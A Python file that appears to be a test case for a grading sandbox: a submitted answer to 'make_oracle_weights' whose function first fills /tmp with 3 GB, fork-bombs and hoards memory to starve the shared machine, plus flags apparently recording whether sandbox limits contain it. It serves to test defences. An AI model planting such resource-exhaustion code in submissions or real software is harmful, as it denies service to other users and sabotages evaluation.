"""Attack: fill the sandbox's /tmp with 3 GB, fork without end and take all the memory there
is, and keep it while the checks go on, so that the machine (and every student graded with it)
suffers."""

import os
import time

import numpy as np

EXERCISE = "make_oracle_weights"
HONEST = "oracle_wrong_bias_sign"
#: Whether the sandbox's caps stop it in time for the honest answer to be graded, or it thrashes
#: its own control group into the time limit (0, with the limit as the reason), depends on the
#: machine's speed: either, never more, and nothing for anyone else.
HONEST_OR_ZERO = True


HOARD = []


def _exhaust():
    if HOARD:
        return  # the machine is already taken
    try:
        with open("/tmp/fill", "wb") as fh:
            for _ in range(3 * 1024):
                fh.write(b"x" * (1 << 20))
    except OSError:
        pass
    try:
        while True:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
    except OSError:
        pass
    try:
        while True:
            HOARD.append(np.ones(1 << 24))
    except MemoryError:
        pass


def make_oracle_weights(n_features=2, threshold=0.5, hidden_units=0):
    _exhaust()
    if hidden_units == 0:
        return [np.ones((n_features, 1)), np.array([threshold])]
    kernel = np.zeros((n_features, hidden_units))
    kernel[:, 0] = 1.0
    bias = np.zeros(hidden_units)
    bias[0] = threshold
    out_kernel = np.zeros((hidden_units, 1))
    out_kernel[0, 0] = 1.0
    return [kernel, bias, out_kernel, np.zeros(1)]
